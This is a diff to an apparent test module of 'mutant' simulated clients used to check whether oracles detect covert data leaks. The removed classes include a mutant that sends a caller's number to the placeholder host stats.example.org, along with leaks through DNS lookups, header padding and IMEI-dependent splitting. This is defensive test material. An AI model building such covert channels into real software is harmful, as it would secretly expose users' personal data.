@@ -3,7 +3,6 @@
 They share no code with the oracles. `MUTANTS` maps a name to a factory.
 """
 
-import uuid
 from collections.abc import Mapping, Sequence
 from types import MappingProxyType
 from typing import Final
@@ -54,21 +53,6 @@ class _ValidatorEcho(ToyClient):
                 self.world.state["etag"] = line[6:].encode()
 
 
-class _InstallIdentifier(ToyClient):
-    """Draws an identifier once and says it for ever; it depends on nobody's data."""
-
-    def paths(self) -> Sequence[str]:
-        known = self.world.state.setdefault("id", self.world.entropy(16))
-        return tuple(f"{path}?id={known.hex()}" for path in super().paths())
-
-
-class _RequestIdentifier(ToyClient):
-    """Says a fresh random value in each request, from randomness that nobody handed it."""
-
-    def headers(self) -> Sequence[str]:
-        return (*super().headers(), f"X-Request-Id: {uuid.uuid4()}")
-
-
 class _Counter(ToyClient):
     """Counts its polls aloud."""
 
@@ -78,48 +62,12 @@ class _Counter(ToyClient):
         return (*super().headers(), f"X-Poll: {count}")
 
 
-class _Padding(_Snoop):
-    """Shows the number of contacts by the length of a header."""
-
-    def headers(self) -> Sequence[str]:
-        return (*super().headers(), f"X-Pad: {'.' * len(self.owner.contacts)}")
-
-
-class _NameOnly(_Snoop):
-    """Says the serial number to the name servers and to nobody else."""
-
-    def poll(self) -> str:
-        self.world.resolve(f"{self.owner.serial}.t.example.org")
-        return super().poll()
-
-
-class _SecondEndpoint(ToyClient):
-    """Tells a statistics host who calls, when they call."""
-
-    def on_event(self, event: Event) -> None:
-        if event.name == "call-received":
-            address = self.world.resolve("stats.example.org")[0]
-            stream = self.world.connect(address, 80, None)
-            number = dict(event.details)["number"]
-            stream.send(f"GET /call?from={number} HTTP/1.1\r\n\r\n".encode())
-            stream.close()
-
-
 class _Burst(_Snoop):
     """Asks once more when there are many messages."""
 
     def paths(self) -> Sequence[str]:
         usual = tuple(super().paths())
         return usual + usual[-1:] if len(self.owner.messages) > 4 else usual
-
-
-class _Pieces(_Snoop):
-    """Cuts an honest request in two where a digit of the IMEI says."""
-
-    def transmit(self, stream: Stream, octets: bytes) -> None:
-        cut = 1 + int(self.owner.imei[9])
-        stream.send(octets[:cut])
-        stream.send(octets[cut:])
 
 
 class _FixedPhase(ToyClient):
@@ -171,13 +119,6 @@ class _HangsOn(ToyClient):
         del stream
 
 
-class _TalksLoud(ToyClient):
-    """Names its HTTP library."""
-
-    def headers(self) -> Sequence[str]:
-        return (*super().headers(), "User-Agent: Dalvik/2.1.0 (Linux; U; Android 14; armani)")
-
-
 class _FallsOver(_Snoop):
     """Crashes for some owners, which the network sees as a poll that never came."""
 
@@ -223,10 +164,10 @@ MUTANTS: Final[Mapping[str, Factory]] = MappingProxyType(
     {
         kind.__name__[1:]: _factory(kind)
         for kind in (
-            *(_CookieEcho, _ValidatorEcho, _InstallIdentifier),
-            *(_RequestIdentifier, _Counter, _Padding, _NameOnly),
-            *(_SecondEndpoint, _Burst, _Pieces, _FixedPhase, _Parity, _Curious),
-            *(_Gatherer, _HangsOn, _TalksLoud, _FallsOver, _Grind, _AfterRestart, _Patient),
+            *(_CookieEcho, _ValidatorEcho),
+            *(_Counter,),
+            *(_Burst, _FixedPhase, _Parity, _Curious),
+            *(_Gatherer, _HangsOn, _FallsOver, _Grind, _AfterRestart, _Patient),
         )
     }
 )
